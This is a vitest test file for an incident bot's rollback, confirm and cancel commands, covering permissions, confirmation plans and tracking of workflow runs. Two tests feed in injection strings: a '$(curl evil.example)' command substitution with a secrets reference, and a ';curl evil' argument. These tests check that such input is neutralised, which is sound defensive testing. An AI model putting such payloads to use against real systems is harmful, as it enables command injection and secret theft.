// `/rollback`, `/confirm` and `/cancel` (S003-16, S002-16, C25): what begins at once, what waits for a word, and what never begins.
import { describe, expect, test } from 'vitest';
import { onGone } from '../../../src/core/decide/gone.ts';
import { isUnderWay } from '../../../src/core/incident/operation.ts';
import { minutesBetween } from '../../../src/core/time.ts';
import * as build from '../../support/builders.ts';
import { afterDeployment, deployed, now, startsOf } from '../../support/rolling.ts';
import { clock, deployment, shaOf } from '../mitigation/deployments.ts';

const { responder, lead, commander, visitor } = build.people;
const asked = (model: ReturnType<typeof afterDeployment>) => model.record?.operations?.at(-1);
const said = (model: ReturnType<typeof afterDeployment>) => model.said.at(-1)?.body ?? '';
/** A rule of the policy that holds here. */
const auto = (more: string) =>
  build.policyOf(
    `${build.mapped}rollback: { recommend_when: [{ id: recent, says: A recent deploy, deploy_within: 1h${more} }] }\n`,
  );

describe('a bad deployment at a level that does not let wait', () => {
  test('goes back at once to the last known good version', () => {
    const model = afterDeployment();
    model.say(responder, '/rollback because="checkout fails"');
    const [start, ...others] = startsOf(model);
    expect(others).toEqual([]);
    expect(start).toMatchObject({
      workflow: 'rollback-production.yml',
      branch: 'main',
      inputs: { sha: shaOf('c'), environment: 'production', incident: '7', key: start?.operation },
    });
    expect(model.record).toMatchObject({ status: 'mitigating', operations: [{ state: 'asked', by: 'responder' }] });
    expect(model.record?.plan).toBeUndefined();
    expect(said(model)).toMatch(/^\*\*Rolling `production` back from .* to /);
  });

  test('takes time: 👀 and 👍, and the card shows it', () => {
    const model = afterDeployment();
    model.say(responder, '/rollback');
    const reactions = model.decisions
      .at(-1)
      ?.effects.flatMap((effect) => (effect.kind === 'react' ? effect.reaction : []));
    expect(reactions).toEqual(['eyes', '+1']);
    expect(model.card).toContain('GitHub is asked to start it');
  });

  test('what anybody wrote reaches no workflow (AC-26)', () => {
    const model = afterDeployment();
    model.say(responder, '/rollback because="$(curl evil.example) %{ secrets.KEY }"'.replace('%', '$'));
    expect(JSON.stringify(startsOf(model))).not.toContain('evil');
  });

  test.each([
    ['/rollback', 'goes by the rule of the runbook: here the version before', 'standard', shaOf('c')],
    [`/rollback to=${shaOf('b').slice(0, 7)}`, 'goes to the version that was named', 'github', shaOf('b')],
  ])('%s %s', (command, _what, preset, sha) => {
    const policy = build.policyOf(`preset: ${preset}\n${build.mapped}`);
    const model = afterDeployment(policy.levels[0]?.name, policy);
    model.say(responder, command);
    expect(startsOf(model)[0]?.inputs).toMatchObject({ sha });
  });
});

describe('waits for /confirm', () => {
  const reasons = [
    ['a milder level', 'P2', {}, {}, /goes from/],
    ['risky paths', 'P0', { files: ['db/migrations/7.sql'] }, {}, /risky to take back: `db\/migrations\/7.sql`/],
    ['a version that the default branch does not have', 'P0', { reachable: false }, {}, /default branch does not have it/],
    ['more files than are listed', 'P0', { allFiles: false }, {}, /More files changed than GitHub lists/],
    ['a comparison that GitHub does not tell', 'P0', { files: null }, {}, /did not tell all/],
    ['no suspect', 'P0', {}, { deployments: deployed.deployments.map((one, at) => ({ ...one, at: clock(now - 9000 - at), statuses: one.statuses.map((each) => ({ ...each, at: clock(now - 9000 - at * 60) })) })) }, /No deployment is suspected/],
  ] as const; // biome-ignore format: a table
  test.each(reasons)('%s', (_what, level, comparison, past, says) => {
    const model = afterDeployment(level);
    model.comparison = { ...comparison };
    model.past = { ...deployed, ...past };
    model.say(responder, '/rollback');
    expect(startsOf(model)).toEqual([]);
    expect(said(model)).toMatch(says);
    expect(said(model)).toContain(`/confirm ${model.record?.plan?.code}`);
    expect(model.card).toContain('**Waits for `/confirm ');
  });

  test('a version that was live during an incident, which only its name brings up', () => {
    const model = afterDeployment();
    model.past = { ...deployed, incidents: [{ number: 9, from: clock(now - 60), to: clock(now - 50) }] };
    model.say(responder, `/rollback to=${shaOf('c').slice(0, 7)}`);
    expect(startsOf(model)).toEqual([]);
    expect(said(model)).toContain('It was live during #9');
  });

  test('and begins with it, by anybody who may roll back', () => {
    const model = afterDeployment('P2');
    model.say(responder, '/rollback because="checkout fails"');
    model.say(lead, `/confirm ${model.record?.plan?.code}`);
    expect(startsOf(model)).toHaveLength(1);
    expect(asked(model)).toMatchObject({ by: 'lead', because: 'checkout fails', to: { sha: shaOf('c') } });
    expect(model.record?.plan).toBeUndefined();
  });

  test.each([
    ['the code of no plan', (model: ReturnType<typeof afterDeployment>) => model.say(lead, '/confirm 0123abc'), /No plan that waits has the code/],
    ['ten minutes later', (model: ReturnType<typeof afterDeployment>) => { model.later('PT10M'); model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /more than ten minutes ago/],
    ['when something else was deployed meanwhile', (model: ReturnType<typeof afterDeployment>) => { model.past = { ...deployed, deployments: [deployment('e', now - 1), ...deployed.deployments] }; model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /Something was deployed to `production` since/],
    ['when the version failed meanwhile', (model: ReturnType<typeof afterDeployment>) => { model.past = { ...deployed, deployments: deployed.deployments.map((one) => (one.sha === shaOf('c') ? { ...one, statuses: [{ state: 'failure' as const, at: clock(now) }] } : one)) }; model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /No successful deployment/],
    ['when GitHub cannot be asked', (model: ReturnType<typeof afterDeployment>) => { model.past = { ...deployed, deployments: [], unread: ['deployments'] }; model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /could not be asked/],
    ['by somebody who may not roll back', (model: ReturnType<typeof afterDeployment>) => model.say(visitor, `/confirm ${model.record?.plan?.code}`), /You may not do this/],
    ['after /cancel', (model: ReturnType<typeof afterDeployment>) => { const code = model.record?.plan?.code; model.say(responder, '/cancel'); model.say(lead, `/confirm ${code}`); }, /Nothing waits to be confirmed/],
  ])('does not begin with %s', (_what, confirm, says) => {
    const model = afterDeployment('P2');
    model.say(responder, '/rollback');
    confirm(model);
    expect(startsOf(model)).toEqual([]);
    expect(said(model)).toMatch(says);
  }); // biome-ignore format: a table

  test('one plan at a time: the newer one stands', () => {
    const model = afterDeployment('P2');
    model.say(responder, '/rollback');
    const first = model.record?.plan?.code;
    model.say(lead, `/rollback to=${shaOf('b').slice(0, 7)}`);
    model.say(lead, `/confirm ${first}`);
    expect(startsOf(model)).toEqual([]);
    model.say(lead, `/confirm ${model.record?.plan?.code}`);
    expect(startsOf(model)[0]?.inputs).toMatchObject({ sha: shaOf('b') });
  });
});

describe('what speaks against a plan since it was shown', () => {
  const risky = { files: ['db/migrations/7.sql'] };
  const troubled = { ...deployed, incidents: [{ number: 9, from: clock(now - 60), to: clock(now - 50) }] };
  const newer = { ...deployed, deployments: [deployment('e', now - 1), ...deployed.deployments] };
  const unread = { ...deployed, unread: ['other incidents'] };
  test.each([
    ['another incident during which the version was live', troubled, {}, /It was live during #9/],
    ['a path that is risky to take back', deployed, risky, /risky to take back: `db\/migrations\/7.sql`/],
    ['that nobody knows of other incidents any more', unread, {}, /did not tell of other incidents/],
    ['another version that is live', newer, {}, /goes from .*`6565656` to /],
  ] as const)(
    '%s: nothing is started, and the plan is shown as it is now, to be confirmed anew',
    (_what, past, comparison, says) => {
      const model = afterDeployment('P2');
      model.say(responder, '/rollback because="checkout fails"');
      const first = model.record?.plan?.code;
      model.past = { ...past };
      model.comparison = { ...comparison };
      model.say(lead, `/confirm ${first} --dry-run`);
      expect(model.record?.plan?.code).toBe(first);
      model.later('PT1M');
      model.say(lead, `/confirm ${first}`);
      expect(startsOf(model)).toEqual([]);
      expect(said(model)).toMatch(/so nothing was started/);
      expect(said(model)).toMatch(says);
      const second = model.record?.plan?.code;
      expect(second).not.toBe(first);
      expect(said(model)).toContain(`/confirm ${second}`);
      model.say(lead, `/confirm ${second}`);
      expect(startsOf(model)).toHaveLength(1);
      expect(asked(model)).toMatchObject({ because: 'checkout fails', to: { sha: shaOf('c') } });
    },
  );

  test('nothing more than the plan said: it begins', () => {
    const model = afterDeployment('P0');
    model.comparison = risky;
    model.say(responder, '/rollback');
    model.say(lead, `/confirm ${model.record?.plan?.code}`);
    expect(startsOf(model)).toHaveLength(1);
  });
});

describe('whoever may not begin it may not /cancel it either', () => {
  const policy = build.policyOf(
    `${build.mapped}authority: { rules: [{ commands: [rollback], who: { users: [lead] } }] }\n`,
  );

  test('a rollback that runs, nor one that waits', () => {
    const model = afterDeployment('P2', policy);
    model.say(lead, '/rollback');
    model.say(responder, '/cancel');
    expect(said(model)).toMatch(/You may not do this/);
    expect(model.record?.plan).toBeDefined();
    model.say(lead, `/confirm ${model.record?.plan?.code}`);
    model.answerStart();
    for (const text of ['/cancel', '/cancel rollback']) {
      model.say(responder, text);
      expect(said(model)).toMatch(/You may not do this/);
    }
    expect(asked(model)).not.toHaveProperty('cancelledBy');
    model.say(lead, '/cancel');
    expect(asked(model)).toMatchObject({ cancelledBy: 'lead' });
  });

  test('but what only looks', () => {
    const model = afterDeployment(
      'P2',
      build.policyOf(
        `${build.mapped}verification: { workflow: verify-production.yml }\nauthority: { rules: [{ commands: [rollback], who: { users: [lead] } }] }\n`,
      ),
    );
    model.say(responder, '/verify');
    model.say(responder, '/cancel verification');
    expect(model.record?.operations?.at(-1)).toMatchObject({ kind: 'verification', cancelledBy: 'responder' });
  });
});

describe('the code of a plan', () => {
  test('is of this plan alone: planned again for the same version, it is another', () => {
    const model = afterDeployment('P2');
    model.say(responder, '/rollback');
    const first = model.record?.plan;
    model.later('PT1M');
    model.say(lead, '/rollback because="the errors go on"');
    expect(model.record?.plan).toMatchObject({ to: first?.kind === 'rollback' ? first.to : null });
    expect(model.record?.plan?.code).not.toBe(first?.code);
    model.say(lead, `/confirm ${first?.code}`);
    expect(startsOf(model)).toEqual([]);
  });
});

describe('nothing is started', () => {
  test.each([
    ['/rollback --dry-run', /would go from/],
    ['/rollback —dry-run', /would go from/],
    ['/rollback nowhere', /no successful deployment to `nowhere`/],
    ['/rollback to=v9', /No successful deployment to `production` is of that version.*`to=/s],
    [`/rollback to=${shaOf('d').slice(0, 7)}`, /is at .* already/],
    ['/rollback to="v1\\";curl evil"', /No successful deployment|Nothing was done|was not done/],
    ['/rollback production --now', /was not done/],
    ['/rollback production staging', /was not done/],
    ['/rollback to=v1 to=v2', /was not done/],
    ['/confirm 1234567', /Nothing waits to be confirmed/],
    ['/cancel', /nothing was cancelled/],
  ])('by %s', (command, says) => {
    const model = afterDeployment();
    model.say(responder, command);
    expect(startsOf(model)).toEqual([]);
    expect(model.record?.operations ?? []).toEqual([]);
    expect(said(model)).toMatch(says);
  });

  test.each([visitor])('by $login, who may not, and nothing is looked up for them', (who) => {
    const model = afterDeployment();
    const before = model.past;
    model.past = new Proxy(before, { get: () => { throw new Error('It was looked up.'); } });
    model.say(who, '/rollback');
    expect(startsOf(model)).toEqual([]);
  }); // biome-ignore format: one thought

  test('where no earlier version is known to be good; the one before is named all the same', () => {
    const model = afterDeployment();
    model.past = {
      ...deployed,
      incidents: [60, 120, 180].map((ago) => ({ number: ago, from: clock(now - ago), to: clock(now - ago + 9) })),
    };
    model.say(responder, '/rollback');
    expect(startsOf(model)).toEqual([]);
    expect(said(model)).toContain(`/rollback production to=${shaOf('c').slice(0, 7)}`);
  });

  test('while a rollback is under way: a second one is refused with a link, whoever asks', () => {
    const model = afterDeployment();
    model.say(responder, '/rollback');
    model.say(commander, '/rollback');
    expect(startsOf(model)).toHaveLength(1);
    model.answerStart();
    model.say(commander, '/rollback');
    expect(startsOf(model)).toHaveLength(1);
    expect(said(model)).toMatch(/is under way \(\[run 77\]\(https:\/\/github.example\/runs\/77\)\)/);
  });

  test('of two in one comment', () => {
    const model = afterDeployment();
    model.say(responder, `/rollback\n/rollback to=${shaOf('b').slice(0, 7)}`);
    expect(startsOf(model).length).toBeLessThanOrEqual(1);
  });

  test('when the record is made again from the thread', () => {
    const model = afterDeployment();
    model.say(responder, '/rollback');
    const rebuilt = model.rebuilt();
    expect((rebuilt.operations ?? []).filter(isUnderWay)).toEqual([]);
    expect(rebuilt.timeline.map(({ text }) => text).join('\n')).toContain('A rollback was asked for');
  });
});

describe('the run is followed', () => {
  const run = { id: 77, url: 'https://github.example/runs/77' };

  function started(level = 'P0') {
    const model = afterDeployment(level);
    model.say(responder, '/rollback');
    model.answerStart();
    return model;
  }

  test('from queued to running, step by step, without a comment', () => {
    const model = started();
    const comments = model.said.length;
    expect(model.card).toContain('queued');
    model.run = { ...run, status: 'running', conclusion: null, step: 'Verify' };
    model.until(build.minute(0.5));
    expect(model.card).toMatch(/: running\*\* \(Verify\)/);
    expect(model.said).toHaveLength(comments);
  });

  test('to success: the fix is watched, the version is recorded, and whoever asked is told', () => {
    const model = started();
    model.run = { ...run, status: 'ended', conclusion: 'success', step: null };
    model.until(build.minute(0.5));
    expect(model.record).toMatchObject({ status: 'monitoring', operations: [{ state: 'succeeded' }] });
    expect(model.record?.monitoring).not.toBeNull();
    expect(said(model)).toMatch(/^@responder \*\*Rollback of `production` to `\w{7}`: done.\*\*.*Monitoring until/s);
    expect(model.decisions.at(-1)?.effects.find(({ kind }) => kind === 'deployed')).toMatchObject({
      sha: shaOf('c'),
      environment: 'production',
    });
  });

  test('and says what brings it again: the pull requests to revert (S002-17); the version stays on record (S002-18)', () => {
    const model = afterDeployment();
    const pull = { number: 31, title: 'A new client', by: 'lead', at: clock(now - 20), sha: shaOf('d'), url: 'https://github.example/31', files: ['src/a.ts'], changedLines: 3 };
    model.past = { ...deployed, pulls: [pull], brought: { [deployed.deployments[0]?.id ?? '']: [shaOf('d')] } };
    model.say(responder, '/changes');
    model.say(responder, '/rollback');
    model.answerStart();
    model.run = { ...run, status: 'ended', conclusion: 'success', step: null };
    model.until(build.minute(0.5));
    expect(said(model)).toMatch(/`6464646` stays on record.*press \*Revert\* at its end.*\/pull\/31$/ms);
    expect(model.record?.operations?.at(-1)?.from?.sha).toBe(shaOf('d'));
  }); // biome-ignore format: one thought a line

  test('with the running rollout stopped first, where the policy says so (S001-34)', () => {
    const by = build.policyOf(`${build.mapped}rollback: { freeze_first: true, deploy_workflow: deploy.yml }\n`);
    const model = afterDeployment('P0', by);
    model.say(responder, '/rollback');
    expect(startsOf(model)[0]).toMatchObject({ stops: 'deploy.yml' });
    expect(said(model)).toContain('Runs of `deploy.yml` that are under way are cancelled first');
  });

  test('to a failure: which step, and the next version that is known to be good', () => {
    const model = started();
    model.run = { ...run, status: 'ended', conclusion: 'failure', step: 'Health' };
    model.until(build.minute(0.5));
    expect(model.record).toMatchObject({ status: 'mitigating', operations: [{ state: 'failed', step: 'Health' }] });
    expect(said(model)).toMatch(/failed at Health/);
    expect(said(model)).toContain(`/rollback production to=${shaOf('b').slice(0, 7)}`);
    model.say(responder, '/rollback');
    expect(startsOf(model)).toHaveLength(2);
  });

  test('told once, however often it is looked at', () => {
    const model = started();
    model.run = { ...run, status: 'ended', conclusion: 'failure', step: 'Health' };
    model.until(build.minute(0.5));
    const comments = model.said.length;
    model.send(build.tick(model.now));
    model.answerStart();
    expect(model.said).toHaveLength(comments);
  });

  test('/cancel asks GitHub to end it, once it is known', () => {
    const model = afterDeployment();
    model.say(responder, '/rollback');
    model.say(lead, '/cancel');
    expect(model.decisions.at(-1)?.effects.some(({ kind }) => kind === 'cancel-run')).toBe(false);
    model.answerStart();
    expect(model.decisions.at(-1)?.effects.find(({ kind }) => kind === 'cancel-run')).toMatchObject({ run: 77 });
    model.run = { ...run, status: 'ended', conclusion: 'cancelled', step: null };
    model.until(build.minute(0.5));
    expect(said(model)).toMatch(/cancelled/);
  });

  test.each([
    ['refused', /GitHub did not start it: 404 Not Found/],
    ['unanswered', /answer was lost, and no run of it was found/],
  ] as const)('%s: nothing is started again by itself, and a person may', (how, says) => {
    const model = afterDeployment();
    model.say(responder, '/rollback');
    model.answerStart({ how, run: null, why: how === 'refused' ? '404 Not Found' : null });
    model.until(build.minute(1.5));
    expect(said(model)).toMatch(says);
    model.until(build.minute(4));
    expect(startsOf(model)).toHaveLength(1);
    model.say(responder, '/rollback');
    expect(startsOf(model)).toHaveLength(2);
  });

  test('whose start was not answered is found by its name', () => {
    const model = afterDeployment();
    model.say(responder, '/rollback');
    model.answerStart({ how: 'unanswered', run: null });
    expect(model.card).toContain('GitHub did not say whether it was started');
    model.run = { ...run, status: 'running', conclusion: null, step: 'Pause' };
    model.until(build.minute(2));
    expect(asked(model)).toMatchObject({ state: 'running', run });
  });

  test('a run that does not begin is said on the card, with what to do', () => {
    const model = started();
    model.run = { ...run, status: 'queued', conclusion: null, step: null };
    model.until(build.minute(6));
    expect(model.card).toMatch(/has not begun for 5 minutes/);
  });

  test('an answer that comes when the issue is closed changes nothing but the record', () => {
    const model = started();
    model.say(lead, '/close --force it is over');
    model.run = { ...run, status: 'ended', conclusion: 'success', step: null };
    model.until(build.minute(1));
    expect(model.record?.status).toBe('closed');
    expect(asked(model)).toMatchObject({ state: 'succeeded' });
  });
});

describe('a rollback that nobody hears of any more', () => {
  const begun = () => {
    const model = afterDeployment();
    model.say(responder, '/rollback');
    return model;
  };

  test.each(['deleted', 'transferred'] as const)('ends when the issue was %s', (gone) => {
    const model = begun();
    model.answerStart();
    const situation = build.situation(build.tick(build.minute(5)), { facts: build.facts({ gone }) });
    const { record, lookAgainAt } = onGone({ ...situation, record: model.record });
    expect(record).toMatchObject({ status: 'closed', operations: [{ state: 'lost' }] });
    expect(lookAgainAt).toBeNull();
    const again = onGone({ ...situation, record });
    expect(again.record).toBe(record);
  });

  test('is lost a minute after GitHub has its run no more', () => {
    const model = begun();
    model.answerStart();
    model.run = null;
    model.until(build.minute(0.5));
    expect(asked(model)?.state).toBe('queued');
    model.until(build.minute(1.2));
    expect(model.card).toContain('GitHub does not find its run any more');
    model.until(build.minute(3));
    expect(asked(model)?.state).toBe('lost');
    expect(said(model)).toMatch(/GitHub has its run no more/);
    model.say(responder, '/rollback');
    expect(startsOf(model)).toHaveLength(2);
  });

  test('goes on when GitHub has its run again within the minute', () => {
    const model = begun();
    model.answerStart();
    model.run = null;
    model.until(build.minute(1.2));
    expect(asked(model)?.state).toBe('unanswered');
    model.run = { id: 77, url: 'https://github.example/runs/77', status: 'running', conclusion: null, step: null };
    model.until(build.minute(2));
    expect(asked(model)?.state).toBe('running');
  });

  test('is looked for and then lost where nobody knows of its start: what was to be sent went with the database', () => {
    const model = begun();
    model.until(build.minute(9));
    expect(asked(model)?.state).toBe('asked');
    model.until(build.minute(11.1));
    expect(asked(model)?.state).toBe('unanswered');
    model.until(build.minute(13));
    expect(asked(model)?.state).toBe('lost');
  });

  test('an answer that says why it was not started is taken late', () => {
    const model = begun();
    model.until(build.minute(11.1));
    model.answerStart({ how: 'refused', run: null, why: 'too late' });
    expect(asked(model)).toMatchObject({ state: 'refused', step: 'too late' });
  });

  test.each([
    ['that was not answered', (model: ReturnType<typeof begun>) => model.answerStart({ how: 'unanswered', run: null })],
    ['whose start was lost with the database', (model: ReturnType<typeof begun>) => model.until(build.minute(11.1))],
  ] as const)('/cancel ends one %s', (_what, happens) => {
    const model = begun();
    happens(model);
    model.say(lead, '/cancel');
    expect(asked(model)?.state).toBe('cancelled');
    expect(said(model)).toMatch(/look at the runs of/i);
  });
});

test('a deployment of the old version that GitHub does not record is said on the card', () => {
  const model = afterDeployment();
  model.say(responder, '/rollback');
  model.answerStart();
  model.run = { id: 77, url: 'https://github.example/runs/77', status: 'ended', conclusion: 'success', step: null };
  model.until(build.minute(0.5));
  const { issue, installationId } = build.tick(model.now);
  const common = { issue, installationId, at: model.now, actor: null, via: 'clock' } as const;
  const operation = asked(model)?.key ?? '';
  model.send({ kind: 'unrecorded', ...common, operation, why: '403 Resource not accessible' });
  expect(model.card).toMatch(/does not record .*403 Resource not accessible/);
});

describe('a rule of the policy that acts by itself', () => {
  test('rolls back right after the declaration, says by which rule, and tells whoever leads how it ended', () => {
    const model = afterDeployment('P0', auto(', auto: true'));
    expect(startsOf(model)).toHaveLength(1);
    expect(startsOf(model)[0]?.inputs).toMatchObject({ sha: shaOf('c'), key: 'firebreak-7-0' });
    expect(said(model)).toMatch(/^By itself, as the policy has it: A recent deploy\..*Rolling `production` back/s);
    model.answerStart();
    model.say(commander, '/ack');
    model.run = { id: 77, url: 'https://github.example/runs/77', status: 'ended', conclusion: 'success', step: null };
    model.until(build.minute(1));
    expect(said(model)).toMatch(/^@commander \*\*Rollback/);
    model.say(commander, `/time started=${clock(now - 11).slice(11, 16)}`);
    model.until(build.minute(2));
    expect(startsOf(model)).toHaveLength(1);
  });

  test('only recommends without `auto`', () => {
    const model = afterDeployment('P0', auto(''));
    expect(startsOf(model)).toEqual([]);
    expect(model.card).toContain('A recent deploy');
  });

  test.each([
    ['a milder level', 'P2', {}],
    ['risky paths', 'P0', { files: ['migrations/7.sql'] }],
    ['a comparison that GitHub does not tell', 'P0', { reachable: null }],
  ] as const)('does nothing at %s', (_what, level, comparison) => {
    const model = afterDeployment(level, auto(', auto: true'), { ...comparison });
    expect(startsOf(model)).toEqual([]);
  });
});

describe('while another incident rolls back', () => {
  const run = { id: 55, url: 'https://github.example/runs/55' };

  test('the same environment, nothing begins, and the refusal links it', () => {
    const model = afterDeployment();
    model.elsewhere = [{ number: 3, environment: 'production', run }];
    model.say(responder, '/rollback');
    expect(startsOf(model)).toEqual([]);
    expect(said(model)).toMatch(/rollback of `production` for #3 is under way \(\[run 55\]\(.*runs\/55\)\)/);
  });

  test('another environment, it is not in the way', () => {
    const model = afterDeployment();
    model.elsewhere = [{ number: 3, environment: 'staging', run }];
    model.say(responder, '/rollback');
    expect(startsOf(model)).toHaveLength(1);
  });

  test('what was planned before is not begun either', () => {
    const model = afterDeployment('P2');
    model.say(responder, '/rollback');
    model.elsewhere = [{ number: 3, environment: 'production', run: null }];
    model.say(responder, `/confirm ${model.record?.plan?.code}`);
    expect(startsOf(model)).toEqual([]);
    expect(said(model)).toContain('for #3 is under way, so nothing was started');
  });

  test('no rule rolls back by itself', () => {
    const elsewhere = [{ number: 3, environment: 'production', run }];
    expect(startsOf(afterDeployment('P0', auto(', auto: true')))).toHaveLength(1);
    expect(startsOf(afterDeployment('P0', auto(', auto: true'), {}, elsewhere))).toEqual([]);
  });
});

describe('what was rolled back comes again', () => {
  const run = {
    id: 77,
    url: 'https://github.example/runs/77',
    status: 'ended',
    conclusion: 'success',
    step: null,
  } as const;
  const later = { id: 'D_9', sha: shaOf('e'), at: build.minute(3) };

  function rolledBack() {
    const model = afterDeployment();
    model.say(commander, '/ack');
    model.say(responder, '/rollback');
    model.answerStart();
    model.run = run;
    model.until(build.minute(1));
    return model;
  }
  const told = (model: ReturnType<typeof afterDeployment>) =>
    model.said.filter(({ body }) => body.includes('was rolled back'));

  test('with the pull requests whose revert keeps it away (S002-17)', () => {
    const model = afterDeployment();
    const pull = { number: 31, title: 'A new client', by: 'lead', at: clock(now - 20), sha: shaOf('d'), url: 'https://github.example/31', files: ['src/a.ts'], changedLines: 3 };
    model.past = { ...deployed, pulls: [pull], brought: { [deployed.deployments[0]?.id ?? '']: [shaOf('d')] } };
    model.say(commander, '/changes');
    model.say(responder, '/rollback');
    model.answerStart();
    model.run = run;
    model.until(build.minute(1));
    model.liveVersion = later;
    model.until(build.minute(10));
    expect(told(model)[0]?.body).toMatch(/live again.*press \*Revert\* at its end.*\/pull\/31$/ms);
  }); // biome-ignore format: one thought a line

  test('with a later deployment: whoever leads and whoever rolled back are told, once', () => {
    const model = rolledBack();
    model.liveVersion = later;
    model.until(build.minute(10));
    expect(told(model)).toHaveLength(1);
    expect(told(model)[0]?.body).toMatch(/^@commander @responder \*\*What was rolled back is live again: `6565656`/);
  });

  test.each([
    ['the deployment does not have it', { reachable: false }, later, 0],
    ['it is the version that was gone back to', {}, { ...later, sha: shaOf('c') }, 0],
    ['GitHub does not say: nobody knows, so it is told', { reachable: null }, later, 1],
  ] as const)('%s', (_what, comparison, live, times) => {
    const model = rolledBack();
    model.comparison = { ...comparison };
    model.liveVersion = live;
    model.until(build.minute(10));
    expect(told(model)).toHaveLength(times);
  });

  describe('with a revert', () => {
    const revert = {
      sha: shaOf('1'),
      title: 'Revert "A"',
      message: `Revert "A"\n\nThis reverts commit ${shaOf('d')}.`,
    };
    const again = {
      sha: shaOf('2'),
      title: 'Reapply "A"',
      message: `Reapply "A"\n\nThis reverts commit ${shaOf('1')}.`,
    };

    test('of it nobody is told; with the revert of that revert they are', () => {
      const model = rolledBack();
      model.comparison = { lost: [revert], count: 1 };
      model.liveVersion = later;
      model.until(build.minute(10));
      expect(told(model)).toHaveLength(0);
      model.comparison = { lost: [again, revert], count: 2 };
      model.liveVersion = { id: 'D_10', sha: shaOf('f'), at: build.minute(11) };
      model.until(build.minute(20));
      expect(told(model)).toHaveLength(1);
    });

    test('among more commits than GitHub lists they are told: nobody knows what follows', () => {
      const model = rolledBack();
      model.comparison = { lost: [revert], count: 101 };
      model.liveVersion = later;
      model.until(build.minute(10));
      expect(told(model)).toHaveLength(1);
    });
  });

  test.each([
    ['resolved', ['/resolve --force it holds'], 'resolved'],
    ['closed', ['/close --force it is over'], 'closed'],
  ] as const)('also after it is %s', (_what, commands, status) => {
    const model = rolledBack();
    for (const command of commands) model.say(lead, command);
    expect(model.record?.status).toBe(status);
    expect(model.lookAt).not.toBeNull();
    model.until(build.minute(24 * 60));
    model.liveVersion = { ...later, at: build.minute(24 * 60) };
    model.until(build.minute(30 * 60));
    expect(told(model)).toHaveLength(1);
  });

  test('for fourteen days, in ever longer steps', () => {
    const model = rolledBack();
    model.say(lead, '/close --force it is over');
    const steps: number[] = [];
    while (model.lookAt !== null && steps.length < 1000) {
      steps.push(minutesBetween(model.now, model.lookAt));
      model.until(model.lookAt);
    }
    expect(steps).toEqual(steps.toSorted((a, b) => a - b));
    expect(minutesBetween(build.T0, model.now)).toBeGreaterThanOrEqual(14 * 24 * 60);
    model.liveVersion = later;
    model.send(build.tick(model.now));
    expect(told(model)).toHaveLength(0);
  });

  test('closed, not any more once a revert was seen', () => {
    const model = rolledBack();
    model.say(lead, '/close --force it is over');
    const title = 'Revert "A"';
    const revert = { sha: shaOf('1'), title, message: `${title}\n\nThis reverts commit ${shaOf('d')}.` };
    model.comparison = { lost: [revert], count: 1 };
    model.liveVersion = later;
    model.until(build.minute(10));
    expect(told(model)).toHaveLength(0);
    // Only what has to be written afterwards is still to come.
    expect(minutesBetween(model.now, model.lookAt ?? model.now)).toBeGreaterThan(24 * 60);
  });

  test('after the cause was mended nobody is told', () => {
    const model = rolledBack();
    model.say(commander, '/cause the new client fix=#12');
    model.liveVersion = later;
    model.until(build.minute(10));
    expect(told(model)).toHaveLength(0);
  });
});
